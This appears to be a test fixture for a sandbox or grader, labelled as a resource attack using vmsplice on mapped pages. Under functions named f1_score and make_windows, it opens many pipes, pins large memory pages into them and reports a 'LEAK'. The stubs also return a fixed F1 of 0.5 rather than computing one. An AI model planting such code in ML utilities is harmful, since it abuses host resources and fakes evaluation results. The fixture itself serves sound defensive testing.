# class: resources
# attacks: pages handed to pipes by vmsplice and then unmapped
# expect: {"f1": 0, "windows": 0}
import numpy as np


def f1_score(y_true, y_pred):
    return 0.5


def make_windows(df, window, horizon, target):
    return np.zeros((1, window, df.shape[1])), np.zeros((1, horizon))


import ctypes, mmap, os

libc = ctypes.CDLL(None, use_errno=True)


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def f1_score(*_):
    pipes = []
    for _ in range(100):
        try:
            pipes.append(os.pipe())
        except OSError:
            break
        page = mmap.mmap(-1, 1 << 21)
        page.write(b"x" * (1 << 21))
        vector = Vector(ctypes.addressof(ctypes.c_char.from_buffer(page)), 1 << 16)
        if libc.vmsplice(pipes[-1][1], ctypes.byref(vector), ctypes.c_size_t(1), 0) > 0:
            print("LEAK vmsplice")
            break
    return 0.5


make_windows = f1_score
